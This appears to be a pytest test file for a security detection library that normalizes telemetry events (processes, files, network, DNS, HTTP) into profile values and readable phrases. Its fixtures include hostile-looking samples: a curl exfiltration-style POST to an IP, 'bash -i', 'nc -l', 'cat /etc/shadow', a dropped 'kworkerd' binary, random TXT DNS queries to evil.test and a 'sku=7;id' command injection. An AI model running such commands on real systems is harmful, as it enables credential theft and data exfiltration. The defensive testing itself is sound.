"""What each use reads: values, words and templates, on the events they are made for."""

from itertools import pairwise

import pytest
from crafted import NOON, SECOND, batch, call, file_act, program, workload
from hypothesis import given
from hypothesis import strategies as st

from lichen.core import ocsf
from lichen.detect.profiles.acts import JOIN, PART_LIMIT, part, parts_of, value_of
from lichen.detect.profiles.malice import TACTICS, attack_ladder, tactic_of, technique_of
from lichen.detect.profiles.overlays import nodes_above
from lichen.detect.profiles.use import ENTITY_FIELDS, Template
from lichen.detect.profiles.uses import USES
from lichen.detect.profiles.uses.destination import name_shape
from lichen.detect.profiles.uses.process import manner


def values(name: str, kind: str, events: list[dict]) -> list[str]:
    """The value that a use reads of each event in its reach."""
    acts, _ = USES[name].read(batch(kind, events), {})
    return [value_of([p.values[p.codes[i]] for p in acts.parts]) for i in range(len(acts.rows))]


@pytest.mark.parametrize(
    ("image", "command", "expected"),
    [
        ("/usr/bin/bash", "bash -c 'id; uname -a'", "-c"),
        ("/usr/bin/bash", "bash -i", "-i"),
        ("/usr/bin/dash", "/bin/sh /srv/app/jobs/health.sh", "/srv/app/jobs/health.sh"),
        ("/usr/bin/dash", "sh /var/tmp/.x7.sh", "/var/tmp/.x<n>.sh"),
        ("/usr/bin/python3.11", "python3 -m http.server 8000", "-m http.server"),
        ("/usr/bin/python3.11", "python3 /srv/app/orders.py", "/srv/app/orders.py"),
        ("/usr/bin/curl", "curl -fsS -m 3 --data-binary=@x http://198.51.100.7/a", "--data-binary -fsS -m"),
        ("/usr/bin/dpkg", "dpkg -i less.deb", "-i"),
        ("/usr/bin/apt-get", "apt-get install -y x", "install -y"),
        ("/usr/bin/env", "env LC_ALL=C nc -l", "nc"),
        ("/usr/bin/cat", "cat /etc/shadow", ""),
        ("/usr/bin/cat", "", ""),
    ],
)
def test_the_manner_of_a_program_is_told_without_what_varies(image: str, command: str, expected: str) -> None:
    assert manner(image, command) == expected


def test_a_process_is_its_image_and_manner() -> None:
    events = [program("orders-1", "/usr/bin/python3.11", "python3 -c x"), program("orders-1", "/usr/bin/id")]
    assert values("process", "exec", events) == ["/usr/bin/python<n>.<n> › -c", "/usr/bin/id › plain"]
    assert USES["process"].said(("/usr/bin/python<n>.<n>", "-c")) == "ran python<n>.<n> -c"
    assert USES["process"].said(("/usr/bin/id", "plain")) == "ran id"


def test_a_pair_hangs_on_parent_and_grandparent() -> None:
    event = program("orders-1", "/usr/bin/id", "id", "/usr/bin/dash")
    event["actor.process.parent_process.file.path"] = "/usr/bin/python3.11"
    assert values("pair", "exec", [event]) == ["/usr/bin/python<n>.<n> › /usr/bin/dash › /usr/bin/id"]
    assert values("pair", "exec", [program("orders-1", "/usr/bin/id")]) == ["? › ? › /usr/bin/id"]
    said = USES["pair"].said
    assert said(("/usr/bin/python3", "/usr/bin/dash", "/usr/bin/id")) == "ran id under dash under python3"
    assert said(("?", "?", "/usr/bin/id")) == "ran id under a parent that was not seen"


def test_a_path_is_actor_activity_and_template() -> None:
    events = [
        file_act("db-1", "/usr/bin/cp", "/usr/bin/kworkerd"),
        file_act("db-1", "/usr/bin/cat", "/etc/shadow", ocsf.READ),
        file_act("db-1", "/usr/bin/gzip", "/var/log/a-2026-11-24.gz", ocsf.DELETE),
    ]
    assert values("path", "file", events) == [
        "/usr/bin/cp created › /usr/bin/kworkerd",
        "/usr/bin/cat read › /etc/shadow",
        "/usr/bin/gzip removed › /var/log/a-<n>-<n>-<n>.gz",
    ]
    assert USES["path"].said(("/usr/bin/cp created", "/usr/bin/x")) == "created /usr/bin/x by cp"
    assert USES["path"].template("/a/b.sql.gz") == Template("/a/", ".sql.gz")
    assert USES["path"].template("/a/.b") is None


def test_a_destination_is_where_what_name_or_who_came() -> None:
    there = {**workload("orders-1"), "actor.process.file.path": "/usr/bin/python3.11", "activity_id": ocsf.OPEN}
    came = {"actor.process.file.path": "/usr/lib/postgres", "src_endpoint.ip": "10.77.0.61"}
    net = [
        {**there, "dst_endpoint.ip": "203.0.113.41", "dst_endpoint.port": 8443},
        {**there, "dst_endpoint.ip": "192.0.2.9", "dst_endpoint.hostname": "a.mirror.example", "dst_endpoint.port": 80},
        {**there, **came, "activity_id": ocsf.ACCEPT},
    ]
    assert values("destination", "net", net) == [
        "/usr/bin/python<n>.<n> to 203.0.113.0/24 port 8443",
        "/usr/bin/python<n>.<n> to mirror.example port 80",
        "/usr/lib/postgres from 10.77.0.0/24",
    ]
    dns = [{**workload("orders-1"), "query.hostname": f"{'a9' * 20}.t.evil.test", "query.type": "TXT"}]
    assert values("destination", "dns", dns) == ["dns long random TXT evil.test"]
    refused = {
        "src_endpoint.ip": "203.0.113.7",
        "service.name": "sshd",
        "status_id": ocsf.FAILURE,
        "user.name": "boris",
    }
    first = {**workload("admin-1"), **refused, "activity_id": ocsf.LOGON}
    auth = [first, {**first, "activity_id": 99}, {**first, "activity_id": 99, "status_id": None, "user.name": None}]
    told = ["sshd refused login of boris from 203.0.113.0/24", "sshd visit from 203.0.113.0/24"]
    assert values("destination", "auth", auth) == told


@pytest.mark.parametrize(
    ("item", "words"),
    [
        ("/usr/bin/curl to 203.0.113.0/24 port 80", "connected to 203.0.113.0/24 port 80 by curl"),
        ("/usr/lib/postgres from 10.77.0.0/24", "accepted a connection from 10.77.0.0/24 by postgres"),
        ("sshd refused login of boris from 203.0.113.0/24", "refused login of boris from 203.0.113.0/24 by sshd"),
        ("dns long random TXT evil.test", "asked for long random names (TXT) under evil.test"),
    ],
)
def test_destinations_are_told_in_words(item: str, words: str) -> None:
    assert USES["destination"].said((item,)) == words


@pytest.mark.parametrize(
    ("name", "domain", "shape"),
    [
        ("example.org", "example.org", "bare"),
        ("www.example.org", "example.org", "plain"),
        ("a.b.c.example.org", "example.org", "deep"),
        ("averylongbutplainlabelindeed.example.org", "example.org", "long random"),
        (f"{'4142' * 12}.t.evil.test", "evil.test", "long random"),
        ("db-1", "db-1", "bare"),
    ],
)
def test_name_shapes(name: str, domain: str, shape: str) -> None:
    assert name_shape(name, domain) == shape


def test_a_route_is_service_call_outcome_and_parameter_classes() -> None:
    event = call("alice", "/api/orders/1042", **{"http_request.url.query_string": "expand=items&n=3"})
    attack = call(None, "/api/quote", "POST", 500, **{"http_request.url.query_string": "sku=7;id"})
    routes = ["gateway GET /api/orders/<n> 2xx expand:w,n:n", "gateway POST /api/quote 5xx sku:x"]
    assert values("route", "http", [event, attack]) == routes
    assert USES["route"].said((routes[1],)) == "called POST /api/quote on gateway with sku:x (5xx)"
    assert USES["route"].template(routes[0]) == Template("gateway GET /api/orders/<n> 2xx", "")


def test_a_request_is_judged_for_its_user_and_for_the_workload_that_answered() -> None:
    from lichen.detect.profiles.profile import Profile

    events = [call("alice", "/api/cart"), call(None, "/api/cart")]
    rows, _, _ = Profile(USES["route"], 5).detect(batch("http", events), {})
    assert {(str(row.subject), row.n_events) for row in rows} == {("user alice", 1), ("workload gateway-1", 2)}


def test_every_use_leans_on_the_fleet_in_the_end_and_has_words() -> None:
    for use in USES.values():
        for kind, ladders in use.ladders.items():
            for judged, ladder in enumerate(ladders):
                assert len(ladder.rungs) == len(ladder.names)
                assert ladder.rungs[0] == tuple(range(ENTITY_FIELDS[kind] + use.given + judged)), (use.name, kind)
                assert all(set(upper) < set(lower) for lower, upper in pairwise(ladder.rungs))


@given(st.text(max_size=300))
def test_parts_are_bounded_printable_and_never_hold_the_joint(text: str) -> None:
    safe = part(text)
    assert len(safe) <= PART_LIMIT + 1
    assert safe.isprintable()
    assert JOIN not in safe


@given(st.lists(st.text(max_size=20).map(part), min_size=1, max_size=4))
def test_values_come_apart_as_they_were_joined(parts: list[str]) -> None:
    assert parts_of(value_of(parts)) == tuple(parts)


def test_techniques_stand_under_one_tactic_each() -> None:
    every = [technique for names in TACTICS.values() for technique in names.split()]
    assert len(every) == len(set(every))
    assert tactic_of("T1059.004") == "execution"
    assert tactic_of("T9999") == "T9999"
    assert technique_of("malicious:T1059.004") == "T1059.004"
    assert technique_of("malicious") == ""
    assert [len(rung) for rung in attack_ladder(1).rungs] == [3, 2, 1, 0]


def test_nodes_over_a_subject_are_named_as_people_name_them() -> None:
    assert nodes_above("workload", ("orders", "orders@v1", "orders-2")) == [
        "fleet",
        "group orders",
        "image orders@v1",
        "orders-2",
    ]
    assert nodes_above("user", ("alice",)) == ["fleet", "users", "alice"]


def test_batches_without_rows_in_reach_give_no_acts() -> None:
    nothing = [{**workload("orders-1"), "class_uid": 0, "time": NOON + SECOND}]
    for use in USES.values():
        kind = sorted(use.kinds)[0]
        acts, _ = use.read(batch(kind, nothing), {})
        assert len(acts.rows) == 0
